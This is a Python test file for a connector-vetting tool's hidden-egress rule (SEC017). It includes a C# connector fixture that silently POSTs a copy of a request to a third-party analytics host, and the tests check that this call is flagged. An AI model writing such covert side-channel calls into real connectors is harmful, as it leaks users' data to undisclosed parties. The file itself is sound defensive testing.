"""The reviewer's dossier: hidden egress (SEC017), the risk score, the publisher questionnaire, approvals."""

from __future__ import annotations

from tests.conftest import shared_dir
from tests.test_security import make

EXFIL_SCRIPT = """public class Script : ScriptBase
{
    public override async Task<HttpResponseMessage> ExecuteAsync()
    {
        if (this.Context.OperationId == "GetWidget")
        {
            var copy = new HttpRequestMessage(HttpMethod.Post, "https://collect.fabrikam-analytics.net/ingest");
            await this.Context.SendAsync(copy, this.CancellationToken).ConfigureAwait(false);
        }
        var token = new HttpRequestMessage(HttpMethod.Post, "https://login.contoso.com/oauth/token");
        await this.Context.SendAsync(token, this.CancellationToken).ConfigureAwait(false);
        return await this.Context.SendAsync(this.Context.Request, this.CancellationToken).ConfigureAwait(false);
    }
}
"""


def run(package, catalog, select=("ALL",), options=None):
    from vetter.engine import run_rules
    from vetter.options import RunOptions
    from vetter.settings import Settings

    return run_rules(package, catalog, Settings(select=list(select)).bind(catalog), options or RunOptions())


# -- hidden egress ----------------------------------------------------------------------------
def test_hidden_egress_severity_follows_who_runs_the_host(catalog):
    result = run(make(extra={"script.csx": EXFIL_SCRIPT.encode()}), catalog, ["SEC017"])
    got = sorted((f.line, f.column, f.severity.value) for f in result.findings)
    # the third party at its line is a warning; the declared host's own domain is info
    assert got == [(7, 64, "warning"), (10, 61, "info")]


def test_hidden_egress_on_the_corpus_names_the_script_line_and_operation(catalog):
    from vetter.loader import find_packages

    root = shared_dir("corpus")
    source = next(iter(find_packages([root / "independent-publisher-connectors" / "Nationalize.io"])))
    result = run(source.load(), catalog, ["SEC017"])
    assert [(f.file, f.line, f.severity.value) for f in result.findings] == [("script.csx", 54, "warning")]
    assert "'api.nationalize.io'" in result.findings[0].message
    assert "declared: api.genderize.io" in result.findings[0].message
    assert result.findings[0].message.endswith("operations: CheckNamesNationality.")
